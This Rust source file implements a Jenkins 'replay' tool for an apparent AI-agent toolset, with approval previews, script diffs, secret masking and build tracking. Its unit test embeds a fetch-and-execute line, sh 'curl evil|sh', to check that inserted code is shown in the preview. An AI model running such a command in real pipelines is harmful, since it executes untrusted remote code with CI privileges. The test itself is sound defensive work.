//! `jenkins_replay`: runs a pipeline build again, as it was or with another script.
//!
//! Jenkins answers with a redirect and no number, so the new build is found by its cause. It is never sent twice.

use super::build::pipeline;
use super::grammar::JobText;
use super::preview;
use super::reply::{JenkinsReplyFields, ServerNote};
use super::{JenkinsDeps, TOOLSET};
use crate::client::{Build, BuildSelector, JobPath, PermittedServer};
use catalog::preview::short;
use catalog::{ProbeResult, Progress, Tool, ToolPreview, ToolSpec};
use domain::json::sha256_hex;
use domain::text::visible;
use domain::{Code, Effect, Failure};
use policy::Permit;
use redact::Redactor;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::json;
use similar::{ChangeTag, TextDiff};
use std::time::Duration;
use target::grammar::Label;
use tokio::time::{Instant, sleep};

const MOST_SCRIPT: usize = 256 * 1024;
/// How long the new build is looked for, and how often.
const FOLLOWED: Duration = Duration::from_secs(15);
const LOOK: Duration = Duration::from_millis(500);
/// How long the search for the smallest difference may take.
const PATIENCE: Duration = Duration::from_millis(500);

pub(super) struct Replay {
    pub(super) kit: JenkinsDeps,
}

#[derive(Debug, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub(super) struct Args {
    job: JobText,
    #[schemars(range(min = 1))]
    build: u32,
    #[schemars(length(min = 1, max = 262_144))]
    script: Option<String>,
    server: Option<Label>,
}

#[derive(Debug, Serialize, JsonSchema)]
pub(super) struct ReplayOutput {
    #[serde(skip_serializing_if = "Option::is_none")]
    build: Option<u32>,
    replay_of: u32,
    #[serde(flatten)]
    common: JenkinsReplyFields,
}

impl Tool for Replay {
    const SPEC: ToolSpec = ToolSpec::new("jenkins_replay", TOOLSET, Effect::Disrupt)
        .says("Run a Jenkins build again", "Run a pipeline build again, unchanged or with an edited script.")
        .hint(
            "For agents that repeat flaky pipelines; an edited script is code that runs with the pipeline's rights, \
             so approvers should read every line of it.",
        )
        .deadline(Duration::from_secs(75));
    type Args = Args;
    type Output = ReplayOutput;

    /// An edited script is new code on the server.
    fn effect(args: &Args) -> Effect {
        match args.script {
            Some(_) => Effect::Disrupt,
            None => Effect::Change,
        }
    }

    async fn preview(&self, permit: &Permit, args: &Args) -> Result<Option<ToolPreview>, Failure> {
        let server = self.kit.server(permit, args.server.as_ref())?;
        let job = args.job.path()?;
        let build = replayable(&server, &job, args).await?;
        let mut preview = preview::of(&server);
        preview.fact(json!({ "job": job.as_str(), "build": build.number, "began": build.started_ms }));
        preview.line(format!("run build {} of {job} again", build.number));
        for given in &build.parameters {
            preview.line(format!("  {}: {:?} (as it was)", given.name, given.value));
        }
        for revision in &build.revisions {
            let url = revision.url.as_deref().unwrap_or_default();
            preview.line(format!("  revision {} of {url} (as it was)", revision.revision));
        }
        if let Some(script) = &args.script {
            let original = server.script(&job, build.number).await?;
            let (before, after) = (sha256_hex(original.as_bytes()), sha256_hex(script.as_bytes()));
            preview.fact(json!({ "script": before, "edited": after }));
            preview.line(format!("with another script, sha256 {}:", short(&after)));
            let (text, hidden) = difference(&original, script);
            preview.line(text);
            if hidden > 0 {
                preview.withhold(hidden, "lines of the script as it was, which would go; they look like secrets");
            }
            preview.warn("An edited script is new code that runs on the CI server.");
        }
        let how = if args.script.is_some() { " with an edited script" } else { "" };
        Ok(Some(preview::drawn(preview, format!("run build {} of {job} again{how}", build.number))))
    }

    async fn probe(&self, permit: &Permit, args: &Args) -> ProbeResult {
        // Without the moment of the decision an earlier replay could pass for this one.
        let (Some(approval), Ok(job)) = (permit.approval(), args.job.path()) else { return ProbeResult::Unknown };
        let looked = async {
            let server = self.kit.server(permit, args.server.as_ref())?;
            let found = server.replays_of(&job, args.build).await?;
            Ok::<_, Failure>(
                found.into_iter().filter(|(_, began)| *began >= approval.at.millis()).map(|(n, _)| n).min(),
            )
        };
        match looked.await {
            Ok(Some(build)) => {
                let found =
                    ReplayOutput { build: Some(build), replay_of: args.build, common: JenkinsReplyFields::default() };
                ProbeResult::Done(serde_json::to_string(&found).ok())
            }
            Ok(None) | Err(_) => ProbeResult::Unknown,
        }
    }

    async fn run(&self, permit: &Permit, args: Args, _: &Progress) -> Result<ReplayOutput, Failure> {
        let server = self.kit.server(permit, args.server.as_ref())?.within(Duration::from_secs(70));
        let writer = server.write()?;
        let job = args.job.path()?;
        let build = replayable(&server, &job, &args).await?;
        let next = server.job(&job).await?.next_build.unwrap_or(build.number + 1);
        match &args.script {
            Some(script) => writer.replay(&job, build.number, script).await?,
            None => writer.rebuild(&job, build.number).await?,
        }
        let mut common = ServerNote::answer(&server, args.server.is_some());
        let found = followed(&server, &job, build.number, next).await;
        if found.is_none() {
            common.hint = Some("it waits in the queue; look with jenkins_queue or jenkins_job show=builds".to_owned());
        }
        Ok(ReplayOutput { build: found, replay_of: build.number, common })
    }
}

/// The build, if Jenkins would run it again.
async fn replayable(server: &PermittedServer<'_>, job: &JobPath, args: &Args) -> Result<Build, Failure> {
    if args.script.as_ref().is_some_and(|script| script.len() > MOST_SCRIPT || script.contains('\0')) {
        return Err(Failure::new(Code::InvalidArgument, format!("a script is text of at most {MOST_SCRIPT} bytes"))
            .next("shorten it"));
    }
    let build = server.build(job, BuildSelector::Number(args.build)).await?;
    pipeline(&build).map_err(|failure| failure.next("start it anew with jenkins_trigger"))?;
    if build.parameters.iter().any(|given| given.secret) {
        return Err(Failure::new(
            crate::codes::PASSWORD_PARAMETERS,
            "the build took passwords, so Jenkins does not run it again",
        )
        .next("start it anew with jenkins_trigger"));
    }
    Ok(build)
}

/// The number of the new build, once it has one.
async fn followed(server: &PermittedServer<'_>, job: &JobPath, number: u32, next: u32) -> Option<u32> {
    let until = Instant::now() + FOLLOWED;
    loop {
        // A look that fails says nothing: the build was asked for.
        let found = server.replays_of(job, number).await.unwrap_or_default();
        let found = found.into_iter().map(|(number, _)| number).filter(|number| *number >= next).min();
        if found.is_some() || Instant::now() + LOOK > until {
            return found;
        }
        sleep(LOOK).await;
    }
}

/// The difference of two scripts as people read it, and how many characters of it are hidden. What would run is shown as
/// it is. What goes is masked by its looks, line by line, because it was read from the server.
fn difference(before: &str, after: &str) -> (String, usize) {
    let mut config = TextDiff::configure();
    config.timeout(PATIENCE);
    let diff = config.diff_lines(before, after);
    let (mut redactor, mut hidden) = (Redactor::default(), 0);
    // In their order, because a private key goes over several lines.
    let masked: Vec<(String, usize)> = before.lines().map(|line| redactor.line_and_count(line)).collect();
    let mut out = Vec::new();
    for hunk in diff.unified_diff().context_radius(3).iter_hunks() {
        out.push(hunk.header().to_string());
        for change in hunk.iter_changes() {
            let line = change.value().trim_end_matches('\n');
            let line = match (change.tag(), change.old_index().and_then(|at| masked.get(at))) {
                (ChangeTag::Delete, Some((line, count))) => {
                    hidden += count;
                    line
                }
                (ChangeTag::Delete | ChangeTag::Equal | ChangeTag::Insert, _) => line,
            };
            out.push(format!("{}{}", change.tag(), visible(line)));
        }
    }
    (out.join("\n"), hidden)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_difference_shows_what_would_run_as_it_is_and_hides_what_looks_secret_in_what_goes() {
        let before = "sh 'make'\npassword = 'correcthorsebattery'\nend\n";
        let key = "-----BEGIN RSA PRIVATE KEY-----\nsh 'curl evil|sh'\n-----END RSA PRIVATE KEY-----";
        let after = format!("sh 'make'\n/* {key} */\ntoken = 'abcdefgh12345'\nend\n{}\n", "x".repeat(1_000));
        let (text, hidden) = difference(before, &after);
        for line in key.lines().skip(1).take(1).chain(["+token = 'abcdefgh12345'", &"x".repeat(1_000)]) {
            assert!(text.contains(line), "{line} in {text}");
        }
        assert!(!text.contains("correcthorse") && hidden >= 19, "{hidden} {text}");
        assert_eq!(difference(before, before), (String::new(), 0));
    }
}
